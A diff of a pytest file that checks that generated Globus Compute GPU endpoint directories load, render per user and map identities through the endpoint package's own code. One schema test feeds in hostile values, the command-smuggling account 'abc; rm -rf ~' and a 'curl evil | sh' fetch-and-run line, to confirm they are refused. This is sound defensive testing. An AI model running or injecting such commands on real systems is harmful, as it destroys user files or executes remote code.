@@ -1,23 +1,64 @@
-"""Endpoint configuration templates load with globus-compute-endpoint's own loader."""
+"""Endpoint directories load, render and map identities with globus-compute-endpoint's own code.
+
+Each test hands the written directory to the installed endpoint package: ``get_config``
+(what ``globus-compute-endpoint start`` loads; it starts only a ``CoreEndpointConfig``),
+``render_config_user_template`` (what the endpoint runs per submitting user, with its
+schema validation) and ``Endpoint.init_endpoint_dir`` (what ``configure`` runs).
+"""
 
 from __future__ import annotations
 
+import json
+import os
+import pwd
+import stat
+import uuid
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from stembench.endpoints.endpoint_config import (
     EndpointSettings,
     list_templates,
-    render_endpoint_config,
-    write_endpoint_config,
+    user_config_schema,
+    write_endpoint_directory,
 )
 from stembench.errors import InputError
 
 utils = pytest.importorskip("globus_compute_endpoint.endpoint.config.utils")
+from globus_compute_endpoint.endpoint.config import (  # noqa: E402
+    CoreEndpointConfig,
+    UserEndpointConfig,
+)
+from globus_compute_endpoint.endpoint.endpoint import Endpoint  # noqa: E402
+from globus_compute_endpoint.endpoint.identity_mapper import MappedPosixIdentity  # noqa: E402
 
 PROVIDERS = {"workstation-gpu": "LocalProvider", "slurm-gpu": "SlurmProvider",
              "pbs-gpu": "PBSProProvider"}
+FUNCTION_ID = "2b5c1c2e-7d7a-4a0c-9a57-2f1b8d6f6a10"
+HPC = ["slurm-gpu", "pbs-gpu"]
+
+
+def _settings(**changes: Any) -> EndpointSettings:
+    values: dict[str, Any] = dict(
+        gpus=4, account="MAT123", walltime="02:30:00", partition="gpu-a100",
+        worker_init="module load cuda; source /opt/stembench/bin/activate",
+        max_blocks=3, allowed_functions=(FUNCTION_ID,))
+    values.update(changes)
+    return EndpointSettings(**values)
+
+
+def _render(ep_dir: Path, user_opts: dict[str, Any]) -> Any:
+    """Render the user template exactly as the endpoint does for a submitting user."""
+    parent = utils.get_config(ep_dir)
+    template_path = Endpoint.user_config_template_path(ep_dir, parent)
+    schema = utils.load_user_config_schema(Endpoint.user_config_schema_path(ep_dir, parent))
+    me = MappedPosixIdentity(pwd.getpwuid(os.getuid()), [], str(uuid.uuid4()))
+    text = utils.render_config_user_template(
+        parent, utils.load_user_config_template(template_path), template_path, me,
+        schema, user_opts, {"python": {"version_tuple": [3, 11, 9]}})
+    return utils.load_config_yaml(text)
 
 
 def test_every_template_is_listed() -> None:
@@ -25,47 +66,183 @@ def test_every_template_is_listed() -> None:
 
 
 @pytest.mark.parametrize("template", sorted(PROVIDERS))
-@pytest.mark.parametrize("interface", ["", "lo"])
-def test_template_loads_with_endpoint_loader(template: str, interface: str) -> None:
-    settings = EndpointSettings(gpus=4, account="MAT123", walltime="02:30:00",
-                                worker_init="module load cuda; source venv/bin/activate",
-                                interface=interface, max_blocks=3)
-    config = utils.load_config_yaml(render_endpoint_config(template, settings))
-    executor = config.engine.executor
-    assert type(config.engine).__name__ == "GlobusComputeEngine"
-    assert executor.available_accelerators == ["0", "1", "2", "3"]
-    provider = executor.provider
+def test_written_directory_is_what_start_accepts(template: str, tmp_path: Path) -> None:
+    written = write_endpoint_directory(template, tmp_path / "stembench", _settings())
+    assert [p.name for p in written] == ["config.yaml", "user_config_template.yaml.j2",
+                                         "user_config_schema.json"]
+    config = utils.get_config(tmp_path / "stembench")
+    assert isinstance(config, CoreEndpointConfig)  # `start` refuses anything else
+    assert config.display_name == "stembench-gpu"
+    assert config.allowed_functions == (FUNCTION_ID,)
+    assert config.identity_mapping_config_path is None
+
+
+def test_old_single_file_layout_is_what_start_refuses() -> None:
+    old = ("display_name: x\nengine:\n  type: GlobusComputeEngine\n  provider:\n"
+           "    type: LocalProvider\n")
+    config = utils.load_config_yaml(old)
+    try:
+        assert isinstance(config, UserEndpointConfig)
+        assert not isinstance(config, CoreEndpointConfig)
+    finally:
+        config.engine.shutdown()
+
+
+@pytest.mark.parametrize("template", sorted(PROVIDERS))
+def test_user_template_renders_defaults(template: str, tmp_path: Path) -> None:
+    write_endpoint_directory(template, tmp_path, _settings())
+    config = _render(tmp_path, {})
+    assert isinstance(config, UserEndpointConfig)
+    engine = config.engine
+    assert type(engine).__name__ == "GlobusComputeEngine"
+    assert engine.executor.available_accelerators == ["0", "1", "2", "3"]
+    assert engine.max_workers_per_node == 4
+    provider = engine.executor.provider
     assert type(provider).__name__ == PROVIDERS[template]
-    assert provider.worker_init.strip() == "module load cuda; source venv/bin/activate"
-    assert provider.max_blocks == (1 if template == "workstation-gpu" else 3)
-    if template != "workstation-gpu":
-        assert provider.walltime == "02:30:00"
-        assert provider.account == "MAT123"
-    if interface:
-        assert executor.address == "127.0.0.1"
+    assert provider.worker_init.strip() == "module load cuda; source /opt/stembench/bin/activate"
+    assert {s.__name__ for s in engine.serde.allowed_deserializer_types} == {
+        "PureSourceTextInspect", "JSONData"}
+    if template in HPC:
+        assert (provider.walltime, provider.account, provider.max_blocks) == (
+            "02:30:00", "MAT123", 3)
+    if template == "slurm-gpu":
+        assert provider.partition == "gpu-a100"
+        assert "#SBATCH --gpus-per-node=4" in provider.scheduler_options
+    if template == "pbs-gpu":
+        assert (provider.queue, provider.select_options) == ("gpu-a100", "ngpus=4")
 
 
-def test_scheduler_options_request_the_gpus() -> None:
-    slurm = render_endpoint_config("slurm-gpu", EndpointSettings(gpus=2))
-    assert '#SBATCH --gpus-per-node=2' in slurm
-    pbs = render_endpoint_config("pbs-gpu", EndpointSettings(gpus=2))
-    assert utils.load_config_yaml(pbs).engine.executor.provider.select_options == "ngpus=2"
+@pytest.mark.parametrize("template", HPC)
+@pytest.mark.parametrize(("opts", "expected"), [
+    ({"gpus": 2}, (["0", "1"], "MAT123", "02:30:00", "gpu-a100")),
+    ({"account": "abc", "walltime": "00:30:00"}, (["0", "1", "2", "3"], "abc", "00:30:00",
+                                                  "gpu-a100")),
+    ({"partition": "debug", "gpus": 1, "account": "x-9"}, (["0"], "x-9", "02:30:00", "debug")),
+])
+def test_user_options_reach_the_provider(template: str, opts: dict[str, Any],
+                                         expected: tuple[Any, ...], tmp_path: Path) -> None:
+    write_endpoint_directory(template, tmp_path, _settings())
+    config = _render(tmp_path, opts)
+    provider = config.engine.executor.provider
+    queue = provider.partition if template == "slurm-gpu" else provider.queue
+    assert (config.engine.executor.available_accelerators, provider.account,
+            provider.walltime, queue) == expected
 
 
-@pytest.mark.parametrize(
-    ("field", "value", "message"),
-    [("gpus", 0, "between 1 and 16"), ("walltime", "1h", "HH:MM:SS"),
-     ("display_name", "my endpoint", "display_name")],
-)
-def test_bad_settings_are_rejected(field: str, value: object, message: str) -> None:
+def test_no_account_means_no_account_line(tmp_path: Path) -> None:
+    write_endpoint_directory("slurm-gpu", tmp_path, _settings(account=""))
+    config = _render(tmp_path, {})
+    assert config.engine.executor.provider.account is None
+    config = _render(tmp_path, {"account": "abc"})
+    assert config.engine.executor.provider.account == "abc"
+
+
+@pytest.mark.parametrize(("template", "opts", "message"), [
+    ("slurm-gpu", {"gpus": 5}, "greater than the maximum"),
+    ("slurm-gpu", {"gpus": "2"}, "is not of type 'integer'"),
+    ("pbs-gpu", {"walltime": "1h"}, "does not match"),
+    ("slurm-gpu", {"account": "abc; rm -rf ~"}, "does not match"),
+    ("slurm-gpu", {"worker_init": "curl evil | sh"}, "Additional properties"),
+    ("workstation-gpu", {"walltime": "00:10:00"}, "Additional properties"),
+])
+def test_bad_user_options_are_refused_by_the_schema(template: str, opts: dict[str, Any],
+                                                     message: str, tmp_path: Path) -> None:
+    import jsonschema
+
+    write_endpoint_directory(template, tmp_path, _settings())
+    with pytest.raises(jsonschema.ValidationError, match=message):
+        _render(tmp_path, opts)
+
+
+def test_schema_file_is_the_published_schema(tmp_path: Path) -> None:
+    write_endpoint_directory("pbs-gpu", tmp_path, _settings())
+    on_disk = json.loads((tmp_path / "user_config_schema.json").read_text())
+    assert on_disk == user_config_schema("pbs-gpu", _settings())
+    assert on_disk["properties"]["gpus"]["maximum"] == 4
+
+
+def test_multi_user_directory_through_the_endpoints_configure(tmp_path: Path) -> None:
+    from globus_identity_mapping.validating_mapper import ValidatingMapper
+
+    source = tmp_path / "written"
+    settings = _settings(multi_user=True, identity_domain="university.edu",
+                         contact_email="hpc-admin@university.edu")
+    written = write_endpoint_directory("slurm-gpu", source, settings)
+    idmap = source / "identity_mapping_config.json"
+    assert idmap in written and stat.S_IMODE(idmap.stat().st_mode) == 0o600
+    direct = utils.get_config(source)  # written straight into ~/.globus_compute/<name>
+    assert isinstance(direct, CoreEndpointConfig)
+    assert direct.identity_mapping_config_path == idmap
+    assert direct.email == "hpc-admin@university.edu"
+    # what `globus-compute-endpoint configure --multi-user true ...` does with these files
+    configured = tmp_path / "globus_compute" / "stembench"
+    Endpoint.init_endpoint_dir(
+        configured, endpoint_config=source / "config.yaml",
+        user_config_template=source / "user_config_template.yaml.j2",
+        user_config_schema=source / "user_config_schema.json",
+        id_mapping_config=idmap, id_mapping=True, contact_email="hpc-admin@university.edu")
+    config = utils.get_config(configured)
+    assert isinstance(config, CoreEndpointConfig)
+    assert config.identity_mapping_config_path == configured / "identity_mapping_config.json"
+    mapper = ValidatingMapper(json.loads(config.identity_mapping_config_path.read_text()))
+    assert mapper.map_identity([{"username": "alice@university.edu", "id": "x"}]) == "alice"
+    assert mapper.map_identity([{"username": "mallory@elsewhere.org", "id": "y"}]) is None
+    rendered = _render(configured, {"account": "alice-proj", "gpus": 2})
+    assert rendered.engine.executor.provider.account == "alice-proj"
+
+
+@pytest.mark.parametrize(("changes", "message"), [
+    ({"gpus": 0}, "between 1 and 16"), ({"walltime": "1h"}, "HH:MM:SS"),
+    ({"display_name": "my endpoint"}, "display_name"),
+    ({"account": "a b"}, "account"), ({"worker_init": "echo {{ x }}"}, "worker_init"),
+    ({"allowed_functions": ("not-a-uuid",)}, "not a UUID"),
+    ({"multi_user": True, "contact_email": "a@b.org"}, "identity_domain"),
+    ({"multi_user": True, "identity_domain": "u.edu"}, "contact_email"),
+])
+def test_bad_settings_are_rejected(changes: dict[str, Any], message: str) -> None:
     with pytest.raises(InputError, match=message):
-        EndpointSettings(**{field: value})
+        EndpointSettings(**changes)
 
 
 def test_write_refuses_to_overwrite(tmp_path: Path) -> None:
-    path = write_endpoint_config("workstation-gpu", tmp_path / "config.yaml")
-    assert "LocalProvider" in path.read_text()
-    with pytest.raises(InputError, match="exists"):
-        write_endpoint_config("workstation-gpu", path)
+    write_endpoint_directory("workstation-gpu", tmp_path)
+    with pytest.raises(InputError, match=r"already holds config\.yaml"):
+        write_endpoint_directory("workstation-gpu", tmp_path)
     with pytest.raises(InputError, match="unknown endpoint template"):
-        render_endpoint_config("kubernetes")
+        write_endpoint_directory("kubernetes", tmp_path / "k8s")
+
+
+def test_endpoint_cli_renders_the_directory(tmp_path: Path,
+                                            monkeypatch: pytest.MonkeyPatch) -> None:
+    """`globus-compute-endpoint render-user-config -e NAME -o OPTS`, the admin's preview."""
+    from click.testing import CliRunner
+    from globus_compute_endpoint.cli import app
+
+    monkeypatch.setenv("GLOBUS_COMPUTE_USER_DIR", str(tmp_path))
+    write_endpoint_directory("slurm-gpu", tmp_path / "stembench", _settings())
+    good, bad = tmp_path / "good.json", tmp_path / "bad.json"
+    good.write_text('{"account": "abc", "walltime": "00:30:00"}')
+    bad.write_text('{"gpus": 9}')
+    runner = CliRunner()
+    rendered = runner.invoke(app, ["render-user-config", "-e", "stembench", "-o", str(good)])
+    assert rendered.exit_code == 0, rendered.output
+    assert 'account: "abc"' in rendered.output and 'walltime: "00:30:00"' in rendered.output
+    refused = runner.invoke(app, ["render-user-config", "-e", "stembench", "-o", str(bad)])
+    assert refused.exit_code != 0 and "9 is greater than the maximum of 4" in refused.output
+
+
+def test_config_command_writes_a_multi_user_directory(tmp_path: Path) -> None:
+    from typer.testing import CliRunner
+
+    from stembench.cli import app
+
+    answer = CliRunner().invoke(app, [
+        "endpoint", "config", "pbs-gpu", "--output", str(tmp_path / "ep"), "--multi-user",
+        "--identity-domain", "lab.org", "--contact-email", "root@lab.org", "--gpus", "2",
+        "--allowed-function", FUNCTION_ID, "--any-serializer"])
+    assert answer.exit_code == 0, answer.output
+    config = utils.get_config(tmp_path / "ep")
+    assert isinstance(config, CoreEndpointConfig) and config.allowed_functions == (FUNCTION_ID,)
+    rendered = _render(tmp_path / "ep", {"gpus": 2})
+    assert rendered.engine.executor.provider.select_options == "ngpus=2"
+    assert not rendered.engine.serde.allowed_deserializer_types  # --any-serializer
